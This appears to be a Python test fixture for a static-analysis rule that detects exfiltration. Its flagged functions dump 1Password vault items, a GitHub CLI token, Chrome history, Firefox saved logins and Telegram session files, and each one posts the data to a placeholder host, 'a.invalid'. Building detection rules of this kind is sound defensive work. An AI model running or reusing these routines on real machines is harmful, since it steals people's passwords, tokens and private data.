import json, os, shutil, sqlite3, subprocess
import requests
import urllib.request

PLACES = {
    "chrome": "~/Library/Application Support/Google/Chrome/Default/History",
    "firefox": "~/.mozilla/firefox/x.default/logins.json",
}


def vault():
    listed = subprocess.run(["op", "item", "list", "--format=json"], capture_output=True, text=True)
    items = json.loads(listed.stdout)
    # ruleid: exfiltration-vaults
    urllib.request.urlopen(urllib.request.Request("https://a.invalid/in", data=json.dumps(items).encode()))


def login():
    token = subprocess.check_output("gh auth token", shell=True).decode()
    # ruleid: exfiltration-vaults
    requests.post("https://a.invalid/in", json={"t": token})


def gather(place):
    copied = shutil.copy2(os.path.expanduser(place), "/tmp/h.db")
    return sqlite3.connect(copied).execute("SELECT url FROM urls").fetchall()


def browsers():
    rows = {}
    for name, place in PLACES.items():
        rows[name] = gather(place)
    # ruleid: exfiltration-vaults
    requests.post("https://a.invalid/in", json=rows)


def honest():
    status = subprocess.run(["gh", "auth", "status"], capture_output=True, text=True)
    # ok: exfiltration-vaults
    requests.post("https://a.invalid/in", json={"s": status.stdout})
    # ok: exfiltration-vaults
    requests.post("https://a.invalid/in", json={"browser": "chrome", "page": "History"})


def login_of_a_messenger():
    shutil.make_archive("/tmp/kept", "zip", os.path.join(os.environ["APPDATA"], "Telegram Desktop", "tdata"))
    # ruleid: exfiltration-vaults
    requests.post("https://a.invalid/", files={"file": open("/tmp/kept.zip", "rb")})
